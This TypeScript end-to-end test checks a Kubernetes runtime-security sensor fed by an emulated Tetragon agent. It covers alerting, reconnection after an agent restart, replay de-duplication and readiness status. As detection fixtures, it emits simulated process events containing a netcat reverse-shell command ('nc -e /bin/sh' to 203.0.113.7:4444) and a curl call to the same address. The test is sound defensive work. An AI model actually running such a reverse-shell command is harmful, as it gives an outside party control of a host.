import { openTetragonEmulator, type Json, type TetragonEmulator } from "@kinglet-tools/tetragon-emulator";
import { openSimCluster, openTempDir, waitFor, type SimClusterFixture, type TempDir } from "@kinglet/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { SensorProcess } from "./sensor-process.ts";
import { addWorkload, executes, nodeName, prepareShop, type ShopWorkload } from "./shop.ts";

const namespace = "shop";

describe("A sensor at the stream of a Tetragon agent", () => {
  let cluster: SimClusterFixture;
  let folder: TempDir;
  let agent: TetragonEmulator;
  let cart: ShopWorkload;

  beforeAll(async () => {
    folder = await openTempDir("kinglet e2e ");
    agent = await openTetragonEmulator({
      address: `unix:${folder.file("tetragon.sock")}`,
      metricsAddress: "127.0.0.1:0",
      replaysAtConnect: true,
    });
    cluster = await openSimCluster();
    await prepareShop(cluster, namespace);
    cart = await addWorkload(cluster, namespace, "cart");
  });
  afterAll(async () => {
    await agent?.[Symbol.asyncDispose]();
    await cluster?.[Symbol.asyncDispose]();
    await folder?.[Symbol.asyncDispose]();
  });

  /** Lets it happen. @returns its id. */
  function happens(binary: string, args = ""): string {
    const { line, execId } = executes(cart, binary, args);
    agent.emit(JSON.parse(line) as Json);
    return execId;
  }

  it("alerts, comes back when the agent restarts, and repeats nothing that the agent replays", async () => {
    await using sensor = await SensorProcess.start({
      folder: folder.path,
      kubeconfig: cluster.kubeconfigPath,
      tetragonFile: folder.file("unused.log"),
      args: [
        ...["--node-name", nodeName, "--profile-refresh", "1s", "--event-sources", "tetragon-grpc"],
        ...["--tetragon-address", agent.address, "--tetragon-metrics", agent.metricsUrl],
      ],
    });
    await sensor.ready();
    await waitFor(() => agent.counts().listeners === 1, { describe: () => `a stream: ${sensor.stderr()}` });
    happens("/usr/local/bin/node");
    const first = happens("/usr/bin/nc", "-e /bin/sh 203.0.113.7 4444");
    const alert = await sensor.alert((row) => row.process.execId === first, "for nc");
    expect(alert).toMatchObject({
      ruleId: "R0001",
      namespace,
      podName: cart.podName,
      process: { binary: "/usr/bin/nc" },
    });
    expect(await sensor.metric("kinglet_tetragon_grpc_connected")).toBe(1);

    await agent.restart(500);
    await waitFor(() => agent.counts().listeners === 1, { describe: "a stream to the new agent" });
    await waitFor(async () => (await sensor.metric("kinglet_tetragon_grpc_repeated_replays_total")) >= 2, {
      describe: "the replay of what was delivered before",
    });
    const second = happens("/usr/bin/curl", "http://203.0.113.7/");
    await sensor.alert((row) => row.process.execId === second, "for curl");
    expect(sensor.alerts().map((row) => row.process.execId)).toEqual([first, second]);
    expect(await sensor.stop()).toBe(0);
  });

  it("is not ready before the agent has answered once, says why, and stays ready when it goes away", async () => {
    const address = `unix:${folder.file("late.sock")}`;
    await using sensor = await SensorProcess.start({
      folder: folder.file("late"),
      kubeconfig: cluster.kubeconfigPath,
      tetragonFile: folder.file("unused.log"),
      args: ["--node-name", nodeName, "--event-sources", "tetragon-grpc", "--tetragon-address", address],
    });
    await waitFor(async () => (await sensor.http("/readyz")).text.includes("tetragon-grpc: cannot connect"), {
      describe: () => `a reason: ${sensor.stderr()}`,
    });
    expect((await sensor.http("/readyz")).status).toBe(503);
    const late = await openTetragonEmulator({ address });
    try {
      await sensor.ready();
    } finally {
      await late[Symbol.asyncDispose]();
    }
    await waitFor(async () => (await sensor.metric("kinglet_tetragon_grpc_connected")) === 0, {
      describe: "the end of the stream",
    });
    expect((await sensor.http("/readyz")).status).toBe(200);
    expect(await sensor.stop()).toBe(0);
  });
});
